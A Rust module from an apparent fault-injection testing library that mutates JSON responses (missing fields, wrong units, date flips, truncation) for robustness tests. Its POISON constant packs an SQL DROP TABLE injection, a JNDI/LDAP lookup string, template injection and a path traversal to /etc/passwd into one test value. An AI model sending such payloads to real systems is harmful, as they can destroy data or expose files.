//! Semantic faults: changes of what an answer says, over JSON.
//!
//! Every change is a real one: where a kind finds nothing to change, it says so instead of handing on the same answer.

use serde_json::{Map, Value, json};

use super::FaultKind;
use super::record::Change;
use crate::pointer::pointer_step;
use crate::stats::Draws;

/// A change within an answer.
#[derive(Debug)]
pub struct Mutation {
    /// JSON pointer of what was changed.
    pub path: String,
    /// What was there.
    pub before: Value,
    /// What came instead.
    pub after: Value,
    /// The whole answer with the change.
    pub whole: Value,
}

/// What a text that breaks careless readers looks like: a NUL, a change of direction, quotes, a template and a path.
const POISON: &str =
    "\u{0}\u{202e}'; DROP TABLE orders; -- ${jndi:ldap://x.invalid} {{7*7}} ../../etc/passwd \u{1F4A3}";

/// Changes `answer` at `path`, or at a place that the seed chooses among those where the kind has something to change.
///
/// # Errors
/// Why there is nothing to change.
pub fn value(
    answer: &Value,
    kind: FaultKind,
    path: Option<&str>,
    history: &[Value],
    seed: u64,
) -> Result<Mutation, String> {
    match kind {
        FaultKind::Stale => return whole(answer, stale(answer, history)?),
        FaultKind::Malformed => return whole(answer, Value::String(malformed(&answer.to_string()))),
        _ => {}
    }
    let mut places = Vec::new();
    match path {
        Some(path) => {
            answer.pointer(path).ok_or_else(|| format!("the answer has no `{path}`"))?;
            places.push(path.to_owned());
        }
        None => walk(answer, String::new(), &mut places),
    }
    let mut draws = Draws::new(seed);
    let mut possible: Vec<(u32, Mutation)> = places
        .into_iter()
        .filter_map(|place| {
            let (rank, whole) = at(answer, &place, kind, history, &mut draws)?;
            let before = answer.pointer(&place).cloned().unwrap_or(Value::Null);
            let after = whole.pointer(&place).cloned().unwrap_or(Value::Null);
            (whole != *answer).then_some((rank, Mutation { path: place, before, after, whole }))
        })
        .collect();
    // Among equally good places the seed chooses.
    let best = possible.iter().map(|(rank, _)| *rank).max();
    possible.retain(|(rank, _)| Some(*rank) == best);
    if possible.is_empty() {
        let place = path.map_or_else(String::new, |path| format!(" at `{path}`"));
        return Err(format!("`{kind}` finds nothing to change in this answer{place}"));
    }
    let at = draws.below(possible.len());
    Ok(possible.swap_remove(at).1)
}

/// Whether a kind has something to change in this answer.
pub fn can_change(answer: &Value, kind: FaultKind) -> bool {
    value(answer, kind, None, &[], 0).is_ok()
}

/// Changes a JSON text as text.
///
/// # Errors
/// Why there is nothing to change.
pub fn text(
    answer: &[u8],
    kind: FaultKind,
    path: Option<&str>,
    history: &[Value],
    seed: u64,
) -> Result<(Vec<u8>, Change), String> {
    let shown = |bytes: &[u8]| Value::String(String::from_utf8_lossy(bytes).into_owned());
    let bytes = match kind {
        FaultKind::Truncated => {
            let mut half = answer.len() / 2;
            // Within a character a text would not be one.
            while half > 0 && std::str::from_utf8(answer).is_ok_and(|text| !text.is_char_boundary(half)) {
                half -= 1;
            }
            if answer.is_empty() {
                return Err("an empty answer cannot be cut".to_owned());
            }
            answer[..half].to_vec()
        }
        FaultKind::Malformed => malformed(&String::from_utf8_lossy(answer)).into_bytes(),
        _ => {
            let parsed: Value = serde_json::from_slice(answer)
                .map_err(|error| format!("the answer is not JSON, so `{kind}` cannot change it: {error}"))?;
            let mutation = value(&parsed, kind, path, history, seed)?;
            let bytes = mutation.whole.to_string().into_bytes();
            let Mutation { path, before, after, .. } = mutation;
            return Ok((bytes, Change { path, before, after, readable: true }));
        }
    };
    let change = Change { path: String::new(), before: shown(answer), after: shown(&bytes), readable: true };
    Ok((bytes, change))
}

fn whole(answer: &Value, other: Value) -> Result<Mutation, String> {
    Ok(Mutation { path: String::new(), before: answer.clone(), after: other.clone(), whole: other })
}

fn stale(answer: &Value, history: &[Value]) -> Result<Value, String> {
    if history.is_empty() {
        return Err("there is no earlier answer to repeat".to_owned());
    }
    let earlier = history.iter().rev().find(|earlier| *earlier != answer);
    earlier.cloned().ok_or_else(|| "every earlier answer is the same".to_owned())
}

/// A text that no JSON parser takes, near to the real one.
fn malformed(text: &str) -> String {
    let end = text.char_indices().nth(text.chars().count() / 2).map_or(0, |(at, _)| at);
    format!("{}<html>502 Bad Gateway</html>", &text[..end])
}

fn walk(value: &Value, path: String, places: &mut Vec<String>) {
    match value {
        Value::Object(map) => {
            for (key, child) in map {
                walk(child, format!("{path}/{}", pointer_step(key)), places);
            }
        }
        Value::Array(items) => {
            for (index, child) in items.iter().enumerate() {
                walk(child, format!("{path}/{index}"), places);
            }
        }
        _ => {}
    }
    places.push(path);
}

/// The answer with a change at `place`, and how good a place it is; `None` where the kind has nothing to change.
fn at(
    answer: &Value,
    place: &str,
    kind: FaultKind,
    history: &[Value],
    draws: &mut Draws,
) -> Option<(u32, Value)> {
    let value = answer.pointer(place)?;
    let replaced = |rank: u32, other: Value| {
        let mut whole = answer.clone();
        *whole.pointer_mut(place)? = other;
        Some((rank, whole))
    };
    match kind {
        FaultKind::MissingField => {
            let (parent, key) = place.rsplit_once('/')?;
            let mut whole = answer.clone();
            let parent = whole.pointer_mut(parent)?.as_object_mut()?;
            parent.remove(&key.replace("~1", "/").replace("~0", "~"))?;
            Some((1, whole))
        }
        FaultKind::ExtraField => {
            let mut map = value.as_object()?.clone();
            map.insert("unexpected_field".to_owned(), json!("injected"));
            replaced(u32::from(place.is_empty()), Value::Object(map))
        }
        FaultKind::NullField => (!value.is_null())
            .then_some(())
            .and_then(|()| replaced(u32::from(!place.is_empty()), Value::Null)),
        FaultKind::WrongType => replaced(u32::from(!place.is_empty()), wrong_type(value)),
        FaultKind::WrongUnit => {
            let number = value.as_number()?;
            replaced(u32::from(unit_like(place)) + 1, scaled(number)?)
        }
        FaultKind::DuplicateItem => {
            let mut items = value.as_array()?.clone();
            let at = draws.below(items.len().max(1));
            let item = items.get(at)?.clone();
            items.insert(at, item);
            replaced(1, Value::Array(items))
        }
        FaultKind::WrongEntity => {
            if !identity_like(place) {
                return None;
            }
            let other = history
                .iter()
                .rev()
                .filter_map(|earlier| earlier.pointer(place))
                .find(|other| *other != value);
            match (other, value) {
                (Some(other), _) => replaced(2, other.clone()),
                (None, Value::String(text)) => replaced(1, Value::String(format!("{text}-other"))),
                (None, Value::Number(number)) => replaced(1, json!(number.as_i64()?.checked_add(1)?)),
                _ => None,
            }
        }
        FaultKind::Truncated => match value {
            Value::String(text) if text.chars().count() > 1 => {
                let kept: String = text.chars().take(text.chars().count() / 2).collect();
                replaced(u32::try_from(text.len()).unwrap_or(u32::MAX - 1), Value::String(kept))
            }
            Value::Array(items) if !items.is_empty() => {
                replaced(u32::MAX, Value::Array(items[..items.len() / 2].to_vec()))
            }
            _ => None,
        },
        FaultKind::PoisonPill => value.as_str().and_then(|_| replaced(1, Value::String(POISON.to_owned()))),
        FaultKind::SchemaViolation => violation(value).and_then(|other| replaced(1, other)),
        FaultKind::DateFlip => {
            date_flipped(value.as_str()?).and_then(|other| replaced(1, Value::String(other)))
        }
        _ => None,
    }
}

fn wrong_type(value: &Value) -> Value {
    match value {
        Value::Null => json!({}),
        Value::Bool(truth) => Value::String(truth.to_string()),
        Value::Number(number) => Value::String(number.to_string()),
        Value::String(text) => text.parse::<i64>().map_or_else(|_| json!([text]), |number| json!(number)),
        Value::Array(items) => Value::Object(
            items.iter().enumerate().map(|(at, item)| (at.to_string(), item.clone())).collect::<Map<_, _>>(),
        ),
        Value::Object(map) => Value::Array(map.values().cloned().collect()),
    }
}

/// A thousand times as much: seconds taken for milliseconds, kilograms for grams.
fn scaled(number: &serde_json::Number) -> Option<Value> {
    if let Some(whole) = number.as_i64() {
        let scaled = whole.checked_mul(1_000).unwrap_or(whole / 1_000);
        return (scaled != whole).then(|| json!(scaled));
    }
    let scaled = number.as_f64()? * 1_000.0;
    (scaled.is_finite() && scaled != 0.0).then(|| json!(scaled))
}

fn last(place: &str) -> String {
    place.rsplit('/').next().unwrap_or_default().to_lowercase()
}

fn unit_like(place: &str) -> bool {
    let name = last(place);
    [
        "ms",
        "millis",
        "sec",
        "second",
        "minute",
        "time",
        "duration",
        "cent",
        "amount",
        "price",
        "total",
        "cost",
        "weight",
        "kg",
        "gram",
        "dose",
        "mg",
        "temperature",
        "distance",
        "length",
        "size",
        "bytes",
        "rate",
        "usd",
        "eur",
    ]
    .iter()
    .any(|unit| name.contains(unit))
}

fn identity_like(place: &str) -> bool {
    let name = last(place);
    matches!(
        name.as_str(),
        "id" | "uuid" | "key" | "name" | "user" | "tenant" | "owner" | "account" | "email" | "subject"
    ) || name.ends_with("_id")
        || name.ends_with("id") && place.rsplit('/').next().is_some_and(|name| name.ends_with("Id"))
        || name.ends_with("_key")
        || name.ends_with("_name")
}

/// Another value of the same type that a constraint would forbid: negative, empty, unknown, beyond any range.
fn violation(value: &Value) -> Option<Value> {
    match value {
        Value::Number(number) => match number.as_i64() {
            Some(whole) if whole > 0 => Some(json!(-whole)),
            Some(_) => Some(json!(i64::from(i32::MAX) + 1)),
            None => Some(json!(-number.as_f64()?.abs() - 1.0)),
        },
        Value::String(text) if !text.is_empty() => Some(json!("")),
        Value::String(_) => Some(json!("x".repeat(100_000))),
        Value::Array(items) if !items.is_empty() => Some(json!([])),
        _ => None,
    }
}

/// `2026-03-04` becomes `2026-04-03` where that is a date too, else `04/03/2026`-like: the day first. Anything after the
/// date stays.
fn date_flipped(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    let digits = |range: std::ops::Range<usize>| -> Option<u32> {
        let part = bytes.get(range)?;
        part.iter().all(u8::is_ascii_digit).then(|| std::str::from_utf8(part).ok()?.parse().ok())?
    };
    let (year, month, day) = (digits(0..4)?, digits(5..7)?, digits(8..10)?);
    if bytes.get(4) != Some(&b'-')
        || bytes.get(7) != Some(&b'-')
        || !(1..=12).contains(&month)
        || !(1..=31).contains(&day)
    {
        return None;
    }
    let rest = &text[10..];
    Some(if day <= 12 && day != month {
        format!("{year:04}-{day:02}-{month:02}{rest}")
    } else {
        format!("{day:02}/{month:02}/{year:04}{rest}")
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fault::FaultClass;

    fn order() -> Value {
        json!({
            "id": "o-1", "amount_cents": 250, "paid": true, "on": "2026-03-04T10:00:00Z", "note": "leave at door",
            "items": [{ "name": "tea", "n": 2 }, { "name": "cup", "n": 1 }],
        })
    }

    fn changed(kind: FaultKind, path: Option<&str>) -> Mutation {
        value(&order(), kind, path, &[json!({ "id": "o-0", "amount_cents": 1 })], 7).unwrap()
    }

    #[test]
    fn every_semantic_kind_changes_an_ordinary_answer() {
        for kind in FaultKind::of(FaultClass::Semantic) {
            for seed in 0..50 {
                let history = [json!({ "id": "o-0", "amount_cents": 1 })];
                let mutation = value(&order(), kind, None, &history, seed).unwrap();
                assert_ne!(mutation.whole, order(), "{kind} with seed {seed}");
            }
        }
    }

    #[test]
    fn the_same_seed_makes_the_same_change() {
        for kind in FaultKind::of(FaultClass::Semantic) {
            let once = |seed| value(&order(), kind, None, &[json!(1)], seed).unwrap().whole;
            assert_eq!(once(3), once(3), "{kind}");
        }
        let chosen: std::collections::BTreeSet<_> = (0..50)
            .map(|seed| value(&order(), FaultKind::MissingField, None, &[], seed).unwrap().path)
            .collect();
        assert!(chosen.len() > 3, "the seed decides the place: {chosen:?}");
    }

    #[test]
    fn what_each_kind_does() {
        assert_eq!(changed(FaultKind::MissingField, Some("/id")).whole.get("id"), None);
        assert_eq!(changed(FaultKind::ExtraField, None).whole["unexpected_field"], "injected");
        assert_eq!(changed(FaultKind::NullField, Some("/paid")).after, Value::Null);
        assert_eq!(changed(FaultKind::WrongType, Some("/amount_cents")).after, "250");
        assert_eq!(changed(FaultKind::WrongUnit, None).whole["amount_cents"], 250_000);
        assert_eq!(changed(FaultKind::Stale, None).whole["id"], "o-0");
        assert_eq!(changed(FaultKind::DuplicateItem, None).whole["items"].as_array().unwrap().len(), 3);
        assert_eq!(changed(FaultKind::WrongEntity, None).whole["id"], "o-0");
        assert_eq!(changed(FaultKind::Truncated, None).whole["items"].as_array().unwrap().len(), 1);
        assert!(changed(FaultKind::PoisonPill, Some("/note")).after.as_str().unwrap().contains('\0'));
        assert_eq!(changed(FaultKind::SchemaViolation, Some("/amount_cents")).after, -250);
        assert_eq!(changed(FaultKind::DateFlip, None).whole["on"], "2026-04-03T10:00:00Z");
        assert_eq!(date_flipped("2026-03-25").unwrap(), "25/03/2026");
        assert_eq!(date_flipped("2026-13-01"), None);
    }

    #[test]
    fn where_there_is_nothing_to_change_it_says_so() {
        let none = |answer: Value, kind, path| value(&answer, kind, path, &[], 1).unwrap_err();
        assert_eq!(
            none(json!({ "a": 1 }), FaultKind::DateFlip, None),
            "`date_flip` finds nothing to change in this answer"
        );
        assert_eq!(none(json!({ "a": 1 }), FaultKind::NullField, Some("/b")), "the answer has no `/b`");
        assert_eq!(
            none(json!(0), FaultKind::WrongUnit, None),
            "`wrong_unit` finds nothing to change in this answer"
        );
        assert_eq!(none(json!(1), FaultKind::Stale, None), "there is no earlier answer to repeat");
        assert_eq!(
            value(&json!(1), FaultKind::Stale, None, &[json!(1)], 1).unwrap_err(),
            "every earlier answer is the same"
        );
    }

    #[test]
    fn texts_are_cut_and_broken_as_texts() {
        let answer = "{\"name\":\"Zoë\"}";
        let (bytes, _) = text(answer.as_bytes(), FaultKind::Truncated, None, &[], 1).unwrap();
        assert!(serde_json::from_slice::<Value>(&bytes).is_err());
        for kind in [FaultKind::Truncated, FaultKind::Malformed] {
            for end in 1..answer.len() {
                let Some(part) = answer.get(..end) else { continue };
                let (bytes, _) = text(part.as_bytes(), kind, None, &[], 1).unwrap();
                assert!(String::from_utf8(bytes).is_ok(), "{kind} of {part}");
            }
        }
        let (bytes, change) = text(answer.as_bytes(), FaultKind::NullField, Some("/name"), &[], 1).unwrap();
        assert_eq!((bytes.as_slice(), change.path.as_str()), (&b"{\"name\":null}"[..], "/name"));
    }

    #[test]
    fn keys_with_slashes_are_found_again() {
        let mutation = value(&json!({ "a/b~c": 5 }), FaultKind::MissingField, None, &[], 1).unwrap();
        assert_eq!((mutation.path.as_str(), mutation.whole), ("/a~1b~0c", json!({})));
    }
}
